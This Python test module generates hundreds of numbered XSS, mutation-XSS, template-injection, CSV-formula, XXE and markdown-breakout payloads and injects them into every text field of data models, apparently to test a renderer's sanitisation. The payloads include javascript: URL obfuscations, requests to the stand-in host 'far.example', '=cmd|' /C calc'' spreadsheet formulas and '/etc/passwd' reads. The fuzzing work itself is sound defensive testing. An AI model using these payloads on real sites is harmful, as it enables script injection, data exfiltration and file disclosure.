# ruff: noqa: E501 (a way stands whole in its line)
"""Several hundred ways to make a page act, ask another host or break its format: the food of the tests of safety.

All are ours. Each calls `pwn(NUMBER)`, or asks `far.example` for something, so that a browser shows which got through.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator, Mapping
from itertools import product
from typing import Any, TypeVar, cast

from pydantic import BaseModel

MARK = "zqx"
"""A word that stands in every field that is attacked, and nowhere else."""
HOST = "far.example"

_BREAKS = ["", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</pre></code>", "</svg>"]
_SCRIPTS = [
    "<script>pwn(N)</script>", "<ScRiPt>pwn(N)</sCrIpT >", "<script/x>pwn(N)</script/x>", "<script\n>pwn(N)</script\n>",
    "<scr<script>ipt>pwn(N)</scr</script>ipt>", "<svg><script>pwn(N)</script></svg>", "<script type=module>pwn(N)</script>",
    "<svg><script href=data:text/javascript,pwn(N) /></svg>", "<script src=data:text/javascript,pwn(N)></script>",
    "<script src=//far.example/N.js></script>", "<script>/*<!--*/pwn(N)</script>", "<\x00script>pwn(N)</script>",
    "&lt;script&gt;pwn(N)&lt;/script&gt;", "&#60;script&#62;pwn(N)&#60;/script&#62;", "&amp;lt;script&amp;gt;pwn(N)&amp;lt;/script&amp;gt;",
    "`<script>pwn(N)</script>`", "``<script>pwn(N)</script>`", "\\<script>pwn(N)\\</script>", "<math><script>pwn(N)</script></math>", "%3Cscript%3Epwn(N)%3C/script%3E",
    "\u003cscript\u003epwn(N)\u003c/script\u003e", "\uff1cscript\uff1epwn(N)\uff1c/script\uff1e", "<script\x0bx>pwn(N)</script>",
]  # fmt: skip
_ELEMENTS = [
    ("img src=x", "onerror"), ("img src=x", "oNeRrOr"), ("image src=x", "onerror"), ("svg", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("video autoplay><source", "onerror"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("a autofocus href=x tabindex=0", "onfocus"),
    ("p tabindex=0 autofocus", "onfocus"), ("iframe", "onload"), ("object data=x", "onerror"), ("embed src=x", "onload"),
    ("link rel=stylesheet href=/404.html", "onerror"), ("style", "onload"), ("marquee", "onstart"), ("svg><animate", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onend"), ("svg><animate attributeName=x dur=1s", "onend"),
    ("svg><image href=x", "onerror"), ("svg><a", "onfocusin"), ("math", "onwheel"), ("form", "onsubmit"),
    ("div style=animation:spin 1s", "onanimationstart"), ("div style=transition:all 1s", "ontransitionend"), ("b", "onclick"),
    ("p", "onmouseover"), ("p", "onpointerover"), ("h2", "oncopy"), ("dialog open", "onclose"), ("div popover", "onbeforetoggle"),
    ("div content-visibility:auto", "oncontentvisibilityautostatechange"), ("frameset", "onload"), ("bgsound src=x", "onerror"),
    ("track src=x", "onload"), ("meter", "onmouseenter"), ("template><img src=x", "onerror"), ("custom-x", "onconnected"),
]  # fmt: skip
_HANDLERS = [
    "<E H=pwn(N)>",
    '<E H="pwn(N)">',
    "<E/H=pwn(N)//",
    "<E\nH\n=\n'pwn(N)'\n>",
    "<E x='>' H=pwn(N)>",
    '<E x=">" H=pwn(N) y="',
]
_ADDRESSES = [
    "javascript:pwn(N)", "JaVaScRiPt:pwn(N)", " javascript:pwn(N)", "java\tscript:pwn(N)", "java&Tab;script:pwn(N)",
    "&#106;avascript:pwn(N)", "&#x6a;avascript&colon;pwn(N)", "javascript&#58;pwn(N)", "\x01javascript:pwn(N)",
    "java&NewLine;script:pwn(N)", "javascript://%0apwn(N)", "vbscript:pwn(N)", "data:text/html,<script>parent.pwn(N)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=", "feed:javascript:pwn(N)", "view-source:javascript:pwn(N)",
    "blob:javascript:pwn(N)", "jav\u00adascript:pwn(N)", "javascript\\:pwn(N)", "\\javascript:pwn(N)", "//far.example/N",
]  # fmt: skip
_CONTEXTS = [
    "[w](A)", "[w](<A>)", "<A>", "![w](A)", '<a href="A">w</a>', "<a href=A>w</a>", "[w][rN]\n\n[rN]: A", "<iframe src='A'></iframe>",
    "<form action='A'><button>w</button></form>", "<object data='A'></object>", "<embed src='A'>", "<base href='A'>",
    "<meta http-equiv=refresh content='0;url=A'>", "<svg><a xlink:href='A'><text>w</text></a></svg>", "<math href='A'>w</math>",
    "<area href='A'>", "<button formaction='A'>w</button>", "<svg><use href='A'/></svg>", "[w](x){: href='A'}", "<img srcset='A 2x'>",
]  # fmt: skip
_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=pwn(N)>">', '<svg></p><style><a id="</style><img src=x onerror=pwn(N)>">', "<xmp><p title='</xmp><img src=x onerror=pwn(N)>'>",
    '<title><p id="</title><img src=x onerror=pwn(N)>">', '<textarea><p id="</textarea><img src=x onerror=pwn(N)>">',
    '<noembed><p id="</noembed><img src=x onerror=pwn(N)>">', '<iframe><p id="</iframe><img src=x onerror=pwn(N)>">',
    '<noframes><p id="</noframes><img src=x onerror=pwn(N)>">',
    "<svg><title><style><img src=x onerror=pwn(N)></style></title></svg>", "<svg><desc><![CDATA[</desc><img src=x onerror=pwn(N)>]]></svg>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=pwn(N)>--></p></foreignObject></svg>",
    "<!--><img src=x onerror=pwn(N)>-->", "<!--!><img src=x onerror=pwn(N)>-->", "<!-- --!><img src=x onerror=pwn(N)>", "<!-<img src=x onerror=pwn(N)>",
    "<![CDATA[<img src=x onerror=pwn(N)>]]>", "<?x <img src=x onerror=pwn(N)>?>", "<!x <img src=x onerror=pwn(N)>>", "</ <img src=x onerror=pwn(N)>>",
    "<select><template><img src=x onerror=pwn(N)></template></select>", "<table><td><svg><td><img src=x onerror=pwn(N)>",
    "<a><svg><a><style></a><img src=x onerror=pwn(N)>", "<b><p><svg></b><style><img title='</style><img src=x onerror=pwn(N)>'>", "<math><annotation-xml encoding='text/html'><img src=x onerror=pwn(N)></annotation-xml></math>",
    "<img src=x:x onerror=pwn(N) //", "<img src=\"x` `<script>pwn(N)</script>\"` `>", "<svg/onload=pwn(N)//", "<<img src=x onerror=pwn(N)>>",
]  # fmt: skip
_BREAKOUTS = [
    '" onmouseover=pwn(N) x="', "' onmouseover=pwn(N) x='", '"onfocus="pwn(N)" autofocus="', "`onmouseover=pwn(N)`", '"><img src=x onerror=pwn(N)>',
    "'><svg onload=pwn(N)>", "{: onclick=pwn(N) }", "*w*{: onclick=pwn(N) autofocus tabindex=0 onfocus=pwn(N) }", "`` w`{: onclick=pwn(N)}``",
    "w {: style='background:url(//far.example/N)' }", "[w](x){ onmouseover=pwn(N) }", "![w](x){ onerror=pwn(N) }", "{#zqxN onclick=pwn(N)}",
    "\n{: onclick=pwn(N) }\n", "&quot; onmouseover=pwn(N) x=&quot;", "&#34;&#62;<img src=x onerror=pwn(N)>", "\\\" onfocus=pwn(N) \\\"",
    "</span></div></article><img src=x onerror=pwn(N)>", '<p class="x\x00" onclick=pwn(N)>', "<p class=`x` onclick=pwn(N)>", "\u2028<img src=x onerror=pwn(N)>",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "{{ pwn(N) }}", "{% raw %}<script>pwn(N)</script>{% endraw %}", "${pwn(N)}", "<%= pwn(N) %>",
    "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "[[pwn(N)]]", "--8<-- '/etc/passwd'", "<div markdown=1>\n<script>pwn(N)</script>\n</div>",
]  # fmt: skip
_REQUESTS = [
    "![w](https://far.example/N.png)", "![w](//far.example/N.png)", "![w](HTTPS:\\\\far.example/N.png)", "<img src=https://far.example/N.png>",
    "<img src='\\\\far.example/N.png'>", "<img src='https:far.example/N.png'>", "<img src='&#x2f;&#x2f;far.example/N'>", "<img src='/\t/far.example/N'>",
    "<img srcset='https://far.example/N.png 2x'>", "<img srcset='x 1x, //far.example/N 2x'>", "<picture><source srcset=//far.example/N><img src=x></picture>",
    "<video poster=//far.example/N></video>", "<video src=//far.example/N></video>", "<audio src=//far.example/N></audio>", "<track src=//far.example/N>",
    "<video><track default src=//far.example/N></video>", "<input type=image src=//far.example/N>", "<svg><image href=//far.example/N /></svg>",
    "<svg><image xlink:href=//far.example/N /></svg>", "<svg><use href='https://far.example/N#x'/></svg>", "<svg><filter id=f><feImage href=//far.example/N /></filter></svg>",
    "<svg><rect fill='url(https://far.example/N#x)'/></svg>", "<svg><rect mask='url(//far.example/N#x)' clip-path='url( \"//far.example/N#x\" )'/></svg>",
    "<svg><path marker-end='url(//far.example/N#x)' d='M0 0h9'/></svg>", "<svg><style>@import '//far.example/N';</style></svg>", "<style>@import url(//far.example/N);</style>",
    "<style>*{background:url(//far.example/N)}</style>", "<p style='background:url(//far.example/N)'>w</p>", "<p style='list-style:url(//far.example/N)'>w</p>",
    "<link rel=stylesheet href=//far.example/N>", "<link rel=prefetch href=//far.example/N>", "<link rel=preconnect href=//far.example>", "<link rel=icon href=//far.example/N>",
    "<link rel=dns-prefetch href=//far.example>", "<link rel=modulepreload href=//far.example/N>", "<body background=//far.example/N>", "<table background=//far.example/N><td>w</table>",
    "<object data=//far.example/N></object>", "<embed src=//far.example/N>", "<iframe src=//far.example/N></iframe>", "<iframe srcdoc='<img src=//far.example/N>'></iframe>",
    "<frameset><frame src=//far.example/N></frameset>", "<base href=//far.example/>", "<meta http-equiv=refresh content='0;//far.example/N'>", "<form action=//far.example/N><input type=submit></form>",
    "<a href=x ping=//far.example/N>w</a>", "<bgsound src=//far.example/N>", "<layer src=//far.example/N></layer>", "<img lowsrc=//far.example/N dynsrc=//far.example/N>",
    "<div data-src=//far.example/N>w</div>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//far.example/N\"]}]}</script>", "<portal src=//far.example/N></portal>",
    "<math><maction actiontype='statusline#//far.example/N' href='//far.example/N'>w</maction></math>", "<img src=x style='cursor:url(//far.example/N),auto'>",
]  # fmt: skip
_FORMATS = [
    "w\nER  - \n\nTY  - JOUR\nTI  - pwn(N)", "w\r\nUR  - javascript:pwn(N)\r\n", "w}, url = {javascript:pwn(N)}, x = {", "=cmd|' /C calc'!A0", "@SUM(1+N)", "+N+cmd|'x'!A0",
    "-2+3+cmd|' /C calc'!A0", "]]><entry><title>N</title></entry>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "&x;&nbsp;&#0;&#xD800;", "\n---\ntitle: pwn(N)\n---\n",
    '","@type":"Person","name":"pwn(N)', "</script><script>pwn(N)</script>", "\\u003c/script>\\u003cscript>pwn(N)", "(/JS (pwn\\(N\\)) /S /JavaScript)",
    "\n%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(pwn(N))>>>>endobj", "#show: pwn(N)\n#eval(\"N\")", "$ #link(\"javascript:pwn(N)\") $", "\u202ejavascript:pwn(N)\u202c",
]  # fmt: skip
_STRANGE = [  # written without a look at what is allowed
    "<math><mi//xlink:href=\"data:x,<script>pwn(N)</script>\"></mi></math>", "<svg><desc><table><style><img src=x onerror=pwn(N)></style></table></desc></svg>",
    "<svg><p><style><g title=\"</style><img src=x onerror=pwn(N)>\"></svg>",

    "<table><tr><td><svg><desc><td></desc></svg><img src=x onerror=pwn(N)></td></table>", "<p><svg><![CDATA[--><img src=x onerror=pwn(N)>]]></svg>", "<svg><a xlink:href=\"?\"><animate attributeName=xlink:href values=javascript:pwn(N) begin=0s></a></svg>",
    "<svg><a><set attributeName=href to=javascript:pwn(N)></set><text>w</text></a></svg>", "<svg><handler type=text/javascript ev:event=load>pwn(N)</handler></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>parent.pwn(N)</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>pwn(N)</script></svg>#x\"></use></svg>", "<svg xmlns=http://www.w3.org/2000/svg onload=pwn(N)></svg>", "<svg:script xmlns:svg=http://www.w3.org/2000/svg>pwn(N)</svg:script>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>pwn(N)</x:script>", "<svg><discard onbegin=pwn(N)></svg>", "<svg><feImage href=https://far.example/N></svg>", "<svg><textPath href=https://far.example/N#a>w</textPath></svg>", "<svg><pattern href=https://far.example/N#a></pattern></svg>",
    "<svg><linearGradient xlink:href=//far.example/N#a></linearGradient></svg>", "<svg><rect style=fill:url(//far.example/N)></svg>", "<svg><rect fill=\"u\\72l(//far.example/N)\"></svg>", "<svg><rect fill=\"url&#40;//far.example/N&#41;\"></svg>", "<svg><rect mask=\"url( '//far.example/N' )\"></svg>", "<svg><rect filter=\"url(//far.example/N#f)\"></svg>", "<svg><path marker-mid=\"image(url(//far.example/N))\" d=\"M0 0h1h1\"></svg>", "<svg><text cursor=\"url(//far.example/N),auto\">w</text></svg>",
    "<svg><g color-profile=url(//far.example/N)></g></svg>", "<svg><image width=9 height=9 xlink:href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn(N)'/>\"></svg>",
    "<img srcset=\"data:,x 1x, https://far.example/N 3x\">", "<img srcset=\"  //far.example/N\">", "<img sizes=100vw srcset=\",,,//far.example/N 9w\">", "<img src=x srcset='//far.example/N,'>", "<source srcset='x,//far.example/N 2x'>", "<picture><source media=all srcset=https://far.example/N><img alt=w></picture>",
    "<img src='/\\far.example/N'>", "<img src='\\/\\/far.example/N'>", "<img src='https:\\\\far.example\\N'>", "<img src='ht\ntps://far.example/N'>", "<img src=' https://far.example/N'>", "<img src='\x00https://far.example/N'>", "<img src='////far.example/N'>", "<img src='http:///far.example/N'>", "<img src='HTTPS://FAR.EXAMPLE/N'>", "<img src='//far%2eexample/N'>", "<img src='//far。example/N'>", "<img src='//user:pass@far.example/N'>", "<img src='ftp://far.example/N'>", "<img src='ws://far.example/N'>", "<img src='blob:https://far.example/N'>", "<img src='filesystem:https://far.example/N'>", "<img loading=eager fetchpriority=high src=//far.example/N>", "<img alt=w longdesc=//far.example/N src=x>", "<img usemap=#m src=x><map name=m><area ping=//far.example/N href=x></map>",
    "![w](\\/\\/far.example/N)", "![w](<//far.example/N>)", "![w](https&#58;//far.example/N)", "![w][fN]\n\n[fN]: //far.example/N.png", "[![w](//far.example/N.png)](x)", "![w](/\t/far.example/N)", "![w](//far.example/N){ loading=lazy }", "![w](x){ src=//far.example/N }", "![w](x){: srcset='//far.example/N 2x' }", "[w](x){: ping='//far.example/N' }",
    "<video><source src=//far.example/N></video>", "<video controls preload=auto src=' //far.example/N'></video>", "<audio preload=auto><source src=https://far.example/N></audio>", "<video poster='\t//far.example/N'></video>", "<track src=//far.example/N default>", "<link rel='preload' as=image href=//far.example/N>", "<link rel=stylesheet href='data:text/css,@import url(//far.example/N);'>", "<link rel=manifest href=//far.example/N>", "<style>@font-face{font-family:x;src:url(//far.example/N)}*{font-family:x}</style>", "<style>@import\\20 url(//far.example/N);</style>", "<p style=\"background-image:image-set('//far.example/N' 1x)\">w</p>", "<p style='--x:url(//far.example/N);background:var(--x)'>w</p>", "<p style='background:\\75\\72\\6c(//far.example/N)'>w</p>", "<p style='behavior:url(//far.example/N)'>w</p>", "<q cite=//far.example/N>w</q>", "<blockquote cite='javascript:pwn(N)'>w</blockquote>", "<ins cite=javascript:pwn(N)>w</ins>",
    "<meta http-equiv=Refresh content='0; URL=javascript:pwn(N)'>", "<meta http-equiv='set-cookie' content='a=N'>", "<meta name=referrer content=unsafe-url>", "<meta http-equiv=Content-Security-Policy content='img-src *'>", "<base target=_blank href='javascript:/N/'>", "<object type=text/html data='data:text/html,<script>pwn(N)</script>'></object>", "<embed type=image/svg+xml src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwn(N)\"/>'>", "<iframe src='&#106;avascript:parent.pwn(N)'></iframe>", "<iframe sandbox srcdoc='&lt;img src=//far.example/N&gt;'></iframe>", "<fencedframe src=//far.example/N></fencedframe>", "<script src=blob:N></script>", "<script nomodule>pwn(N)</script>", "<script type=importmap>{\"imports\":{\"x\":\"//far.example/N\"}}</script>",
    "[w](java&#x0000073;cript:pwn(N))", "[w](&#14;javascript:pwn(N))", "[w](javascript&#x3A;pwn(N))", "[w](\u200bjavascript:pwn(N))", "[w](<javascript:pwn(N)> \"t\")", "[w](JAVASCRIPT&colon;pwn(N))", "[w]( data:text/html;charset=utf-8,%3Cscript%3Epwn(N)%3C/script%3E )", "<javascript:pwn(N)>", "<data:text/html,pwn(N)>", "[w](vbscript&#58;N)", "[w](livescript:pwn(N))", "[w](blob:null/N)", "[w](file:///etc/passwd#N)", "[w](intent://far.example/#Intent;scheme=javascript;N)", "[w](ms-msdt:/id%20N)", "<a href=javascript&colon;pwn(N)>w</a>", "<a href='java\u0000script:pwn(N)'>w</a>", "<a href='\u2028javascript:pwn(N)'>w</a>", "<a xlink:href=javascript:pwn(N)>w</a>", "<a href=x attributionsrc=//far.example/N>w</a>", "<a href=x target=_blank rel=opener onauxclick=pwn(N)>w</a>", "<a href='#' popovertarget=x onbeforetoggle=pwn(N)>w</a>", "<button popovertarget=z>w</button><div id=z popover ontoggle=pwn(N)>w</div>",
    "<form id=f action=javascript:pwn(N)></form><button form=f>w</button>", "<input type=submit formaction=javascript:pwn(N)>", "<isindex action=javascript:pwn(N) type=image>", "<keygen autofocus onfocus=pwn(N)>", "<details ontoggle=pwn(N) open>w</details>", "<dialog open onfocusin=pwn(N)><input autofocus></dialog>", "<div contenteditable autofocus onfocus=pwn(N)>w</div>", "<p tabindex=1 onfocusin=pwn(N)>w</p>", "<div style='animation:x' onanimationiteration=pwn(N)>w</div>", "<video onloadstart=pwn(N) src=x></video>", "<slot onslotchange=pwn(N)></slot>", "<template shadowrootmode=open><img src=x onerror=pwn(N)></template>", "<div><template shadowrootmode=open><style>:host{background:url(//far.example/N)}</style></template></div>", "<menu type=context onshow=pwn(N)>w</menu>",
    "!!! note \"<img src=x onerror=pwn(N)>\"\n    w", "!!! \"onclick=pwn(N)\"\n    w", "!!! note onmouseover=pwn(N)\n    w", "??? note \"<svg onload=pwn(N)>\"\n    w", "w[^\"><img src=x onerror=pwn(N)>]\n\n[^\"><img src=x onerror=pwn(N)>]: w", "[^<b onclick=pwn(N)>N]: w", "w[^n'onclick=pwn(N)']", "*[w]: \" onmouseover=pwn(N) x=\"", "w\n:   <img src=x onerror=pwn(N)>", "# w {: #x onclick=pwn(N) }", "## w {#x\"onclick=\"pwn(N)}", "- w\n{: onclick=pwn(N) }", "| w |\n|---|\n| <img src=x onerror=pwn(N)> |", "| w |{: onclick=pwn(N) }\n|---|\n| w |", "```html {onclick=pwn(N)}\n<script>pwn(N)</script>\n```", "~~~ { .x onclick=pwn(N) }\nw\n~~~", "```\n</code></pre><img src=x onerror=pwn(N)>\n```", "    </code></pre><img src=x onerror=pwn(N)>", "`</code><img src=x onerror=pwn(N)>`", "<div markdown=\"1\" onclick=pwn(N)>\n*w*\n</div>", "<div markdown=block>\n[w](javascript:pwn(N))\n</div>", "<details markdown><summary>w</summary>\n<img src=x onerror=pwn(N)>\n</details>", "[w]: javascript:pwn(N) \"t\"\n\n[w]", "[TOC]\n\n# <img src=x onerror=pwn(N)>", "w  \n<img src=x onerror=pwn(N)\n>", "\\<img src=x onerror=pwn(N)\\>", "&lt;img src=x onerror=pwn(N)&gt;", "&amp;#60;img src=x onerror=pwn(N)&amp;#62;", "&#x26;lt;img src=x onerror=pwn(N)&#x26;gt;", "<!-- evidence: allow \"--><img src=x onerror=pwn(N)>\" because w -->", "<!--[if gte IE 5]><img src=x onerror=pwn(N)><![endif]-->", "<!-- > <img src=x onerror=pwn(N)> -- >",
    "{{ self.__init__.__globals__ }}{{ config.pwn(N) }}", "{%- set x = pwn(N) -%}", "{# --> #}<img src=x onerror=pwn(N)>", "#{pwn(N)}", "<%- pwn(N) %>", "@{pwn(N)}", "[@a, ¶1]<img src=x onerror=pwn(N)>", "\u202e>(N)nwp=rorrendno x=crs gmi<", "\u2066<img src=x onerror=pwn(N)>\u2069", "\ufeff<script>pwn(N)</script>", "<scr\u00adipt>pwn(N)</scr\u00adipt>", "<script\u3000>pwn(N)</script>", "<ſcript>pwn(N)</ſcript>", "<img\u00a0src=x\u00a0onerror=pwn(N)>", "<img\x0csrc=x\x0conerror=pwn(N)>", "\x1b]8;;https://far.example/N\x07w\x1b]8;;\x07", "\x1b[2J\x1b[31mpwn(N)", "\x9b31mpwn(N)", "w\x00<img src=x onerror=pwn(N)>", "\x02stx:0\x03<img src=x onerror=pwn(N)>", "\x02wzxhzdk:1\x03", "\\href{javascript:pwn(N)}{w}", "\\url{javascript:pwn(N)}", "{\\catcode`\\<=1 <img src=x onerror=pwn(N)>}", "$\\href{javascript:pwn(N)}{w}$", "\\input{/etc/passwd}N", "@string{x = {<img src=x onerror=pwn(N)>}}", "constructor __proto__ toString hasOwnProperty pwn(N)", "\"};pwn(N);var x={\"", "'-pwn(N)-'", "`+pwn(N)+`", "</title><script>pwn(N)</script>", "]]></content><script>pwn(N)</script>", "/*</style><img src=x onerror=pwn(N)>*/", "\u2028pwn(N)\u2029",
    "=HYPERLINK(\"https://far.example/N\")", "\t=1+N", "\r=cmd|'/c calc'!N", "+1;pwn(N)", "-1|pwn(N)", "@x;N", "\nER  - \nTY  - GEN\nUR  - javascript:pwn(N)", "%0d%0aTY  - GEN", "CON", "../../N", "a/b\\c:d*?\"<>|N",
    "<svg><rect mask=\"image-set('//far.example/N' 1x)\"></svg>", "<svg><rect mask=\"-webkit-image-set(url(//far.example/N) 1x)\"></svg>", "<svg><rect mask='-webkit-cross-fade(url(//far.example/N),url(#a),50%)'></svg>", "<svg><rect mask=\"u\\72l(//far.example/N)\"></svg>", "<svg><rect clip-path='src(\"//far.example/N\")'></svg>", "<svg><g mask='url(/*#*/\"//far.example/N\")'><rect width=9 height=9></g></svg>",
]  # fmt: skip

_SWALLOW = {
    "textarea",
    "select",
    "iframe",
    "style",
    "title",
    "xmp",
    "noscript",
    "noembed",
    "script",
    "template",
    "frameset",
    "math",
}
ALONE = (
    "<math><mtext><option><mglyph><svg><mtext><style><a title=\"</style><img src onerror=pwn(0)>\">", "<form><math><mtext><form><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=pwn(0)>\"></textarea>", "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=pwn(0)>\">",
    "<script async src='https://far.example/0'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn(0)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn(0)>',
    "<annotation-xml encoding=text/html><style></math><img src=x onerror=pwn(0)>",
    "<plaintext><img src=x onerror=pwn(0)>", "<script>pwn(0)", "<textarea><img src=x onerror=pwn(0)>",
         "<style><img src=x onerror=pwn(0)>", "<select><style><img src=x onerror=pwn(0)>", "<title><img src=x onerror=pwn(0)>",
         "<svg><style><img src=x onerror=pwn(0)>", "<xmp><img src=x onerror=pwn(0)>", "<noscript><img src=x onerror=pwn(0)>")  # fmt: skip
"""Ways that take all that follows for text of their own, so that they hide what stands behind them."""


def _all() -> Iterator[str]:
    yield from (f"{before}{script}" for before, script in product(_BREAKS[:1], _SCRIPTS))
    yield from (f"{before}<script>pwn(N)</script>" for before in _BREAKS)
    yield from (f"{before}<img src=x onerror=pwn(N)>" for before in _BREAKS)
    for at, (element, handler) in enumerate(_ELEMENTS):
        name = re.split(r"[ >]", element)[0]
        for form in (_HANDLERS[at % 6], _HANDLERS[(at + 1) % 6]):
            yield form.replace("E", element, 1).replace("H", handler, 1) + f"</{name}>" * (name in _SWALLOW)
    for at, context in enumerate(_CONTEXTS):
        yield from (context.replace("A", _ADDRESSES[(at * 5 + step * 4) % len(_ADDRESSES)]) for step in range(8))
    yield from (*_MUTATIONS, *_BREAKOUTS, *_REQUESTS, *_FORMATS, *_STRANGE)


VECTORS: tuple[str, ...] = tuple(vector.replace("N", str(n)) for n, vector in enumerate(_all()))
"""The ways, each with its number in it; in one line or several."""

IDENTITY = frozenset(
    {
        *(
            "key",
            "slug",
            "id",
            "path",
            "home",
            "kind",
            "rights",
            "date",
            "earliest",
            "latest",
            "source",
            "topics",
            "part",
        ),
        *(
            "sha256",
            "place",
            "encoding",
            "account",
            "type",
            "issued",
            "accessed",
            "language",
            "checks",
            "citations",
            "names",
        ),
        *("url", "csl", "paper", "publisher_", "edition", "redirects", "hosts", "docs", "label", "field", "home"),
    }
)
"""Fields that say which thing is meant, and are checked to be names and nothing else."""

ROUNDS = 8
"""In so many rounds every field that there is meets every way; in one, an eighth of them."""

T = TypeVar("T")


class Attack:
    """Puts ways to act behind every text of a value, whatever its fields are called, but for those in `IDENTITY`."""

    def __init__(self, turn: int) -> None:
        self.turn, self.fields = turn, 0

    def __call__(self, value: T, name: str = "") -> T:
        """The value, attacked."""
        made: Any = value
        if name in IDENTITY and not isinstance(value, Mapping):
            return value
        if isinstance(value, str):
            made = f"{value} {MARK} {self._payload()}" if value else value
        elif isinstance(value, BaseModel):
            made = value.model_copy(update={n: self(getattr(value, n), n) for n in type(value).model_fields})
        elif dataclasses.is_dataclass(value) and not isinstance(value, type):
            changes = {f.name: self(getattr(value, f.name), f.name) for f in dataclasses.fields(value) if f.init}
            made = dataclasses.replace(value, **changes)
        elif isinstance(value, Mapping):
            made = {n: self(item, str(n)) for n, item in value.items()}
        elif isinstance(value, (tuple, list)):
            made = type(value)(self(item, name) for item in value)
        return cast(T, made)

    def _payload(self) -> str:
        self.fields += 1
        mine = [vector for n, vector in enumerate(VECTORS) if (n + self.fields) % ROUNDS == self.turn]
        return f" {MARK} ".join(mine)
